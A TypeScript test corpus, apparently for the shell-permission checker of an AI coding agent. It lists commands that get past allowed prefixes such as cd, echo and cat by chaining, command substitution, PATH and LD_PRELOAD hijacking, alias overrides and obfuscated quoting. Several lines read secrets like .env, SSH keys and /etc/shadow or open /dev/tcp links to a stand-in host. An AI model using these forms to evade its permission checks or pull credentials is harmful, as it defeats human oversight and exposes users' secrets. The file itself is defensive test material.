/** Ways around a permission that worked somewhere: how something else runs than what stands first. Written as `../corpus.ts` says. */
export const running = String.raw`
== auto +Bash(cd *) +Bash(echo *) +Bash(true *) +Bash(ls *) +Bash(cat *)
ask echo t && npm install evil
ask cd src && python3 s.py
ask cd src; ./run.sh
ask cd src || make
ask echo a | sh
ask echo a | bash -s
ask echo a |& sh
ask echo a & ./evil &
ask echo a␊./evil
ask echo a;./evil
ask echo $(./evil)
ask echo "$(./evil)"
ask echo ${"`"}./evil${"`"}
ask echo <(./evil)
ask echo >(./evil)
ask echo $[a[$(./evil)]]
ask x='a[$(./evil)]'; echo $((x))
ask x='a[$(./evil)]'; echo ${"$"}{y:0:x}
ask x='a[$(./evil)]'; echo ${"$"}{y[x]}
ask x='a[$(./evil)]'; for ((i=x; i<1; i++)); do ls; done
ask x='a[$(./evil)]'; ((x))
ask x='a[$(./evil)]'; [[ $x -eq 1 ]]
ask x='a[$(./evil)]'; [[ -v $x ]]
ask x='a[$(./evil)]'; test -v "$x"
ask x='-v a[$(./evil)]'; test $x
ask x='-v a[$(./evil)]'; [ $x ]
ask y=-v; [ x -a "$y" 'a[$(./evil)]' ]
ask y=-v; test "$y" 'a[$(./evil)]'
ask x='-v PATH .'; printf $x
ask printf -v PATH . ; ls
ask printf -vPATH . ; ls
ask [[ x =~ $(./evil) ]]
ask [[ $(./evil) == x ]]
ask case $(./evil) in x) ls;; esac
ask echo ${"$"}{x:-$(./evil)}
ask echo ${"$"}{x/$(./evil)/y}
ask echo ${"$"}{!x}
ask echo ${"$"}{PATH:=.}; ls
ask PATH=. ls
ask PATH=.:$PATH; ls
ask PATH+=:. ls
ask export PATH=.; ls
ask export PA"TH"=.; ls
ask declare PATH=.; ls
ask declare 'PATH=.'; ls
ask typeset -x PATH=.; ls
ask readonly PATH=.; ls
ask local PATH=.; ls
ask for PATH in . ; do ls; done
ask select PATH in . ; do ls; done
ask for LD_PRELOAD in ./x.so; do ls; done
ask read PATH <<< . ; ls
ask mapfile PATH < x; ls
ask getopts a PATH; ls
ask coproc PATH { ls; }
ask exec {PATH}>/dev/null; ls
ask echo a {PATH}>/dev/null; ls
ask LD_PRELOAD=./x.so ls
ask LD_LIBRARY_PATH=. ls
ask DYLD_INSERT_LIBRARIES=./x ls
ask NODE_OPTIONS=--require=./x.js node --version
ask PYTHONPATH=. python3 --version
ask BASH_ENV=./x ls
ask ENV=./x sh -c ls
ask PERL5OPT=-Mx ls
ask GIT_SSH_COMMAND=./x git status
ask GIT_EXTERNAL_DIFF=./x git diff
ask GIT_PAGER=./x git log
ask GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=./x git status
ask PAGER=./x git log
ask EDITOR=./x git log
ask MANPAGER=./x ls
ask IFS=a; ls
ask PS4='$(./evil)'; set -x; ls
ask PROMPT_COMMAND=./evil; ls
ask http_proxy=http://evil ls
ask A[$(./evil)]=1
ask a=($(./evil))
ask a=(1 2); a[$(./evil)]=3
ask ls() { ./evil; }; ls
ask function ls { ./evil; }; ls
ask alias ls=./evil; ls
ask shopt -s expand_aliases␊alias ls=./evil␊ls
ask hash -p ./evil ls; ls
ask enable -f ./x.so ls; ls
ask unset -f ls
ask trap ./evil EXIT; ls
ask trap './evil' DEBUG; ls
ask eval ./evil
ask eval "ls"
ask eval "$(cat a)"
ask source ./x
ask . ./x
ask . <(echo ./evil)
ask bind -x '"a":./evil'
ask complete -C ./evil ls
ask exec ./evil
ask exec -a ls ./evil
ask command ./evil
ask builtin eval ./evil
ask \eval ./evil
ask 'eval' ./evil
ask e''val ./evil
ask ev\al ./evil
ask $'eval' ./evil
ask $'\x65val' ./evil
ask ./ls
ask src/ls
ask ./timeout 5 ls
ask ./env ls
ask ./nice ls
ask bin/nohup ls
ask ./xargs ls
ask ./sh -c ls
ask /tmp/timeout 5 ls
ask ./cd src
ask $x
ask "$x"
ask ${"$"}{x} ls
ask l$x
ask $(echo ls)
ask ${"`"}echo ls${"`"}
ask {ls,./evil}
ask l[s]
ask l*
ask ""
ask ~/evil
ask ~evil/x
ask l\␊s; ./evil
ask e$IFS./evil
ask ./evil$IFS-x
ask cat$IFS.env
ask {cat,.env}
ask cat {.env,x}
ask cat .e{n,x}v
ask cat .e*
ask cat .en?
ask cat .[e]nv
ask cat *
ask cat .*
ask cat */.e*
ask cat '.env'
ask cat .e"n"v
ask cat $'.en\x76'
ask cat ./.env
ask cat src/../.env
ask cat "$PWD/.env"
ask cat $PWD/.env
ask cat < .env
ask cat 0<.env
ask cat <> .env
ask < .env cat
ask x=.env; cat $x
ask x=.env; cat "$x"
ask for f in .env; do cat $f; done
ask while read f; do cat $f; done
ask cat $(echo .env)
ask cat .env.local
ask cat .git/config
ask cat .GIT/config
ask cat .vscode/settings.json
ask cat ~/.ssh/id_rsa
ask cat /etc/shadow
ask cat ~/.bashrc
ask cat $HOME/.bashrc
ask cat "$HOME"/.bashrc
ask cat ${"$"}{HOME}/.bashrc
ask cat ../$HOME/x
ask cat ../secret
ask cat ../../etc/passwd
ask cat /etc/passwd
ask cat /etc/../etc/passwd
ask cat /proc/self/environ
ask cat /dev/tcp/evil/80
ask cat < /dev/tcp/evil/80
ask echo a > /dev/tcp/evil/80
ask exec 3<>/dev/tcp/evil/80
`;
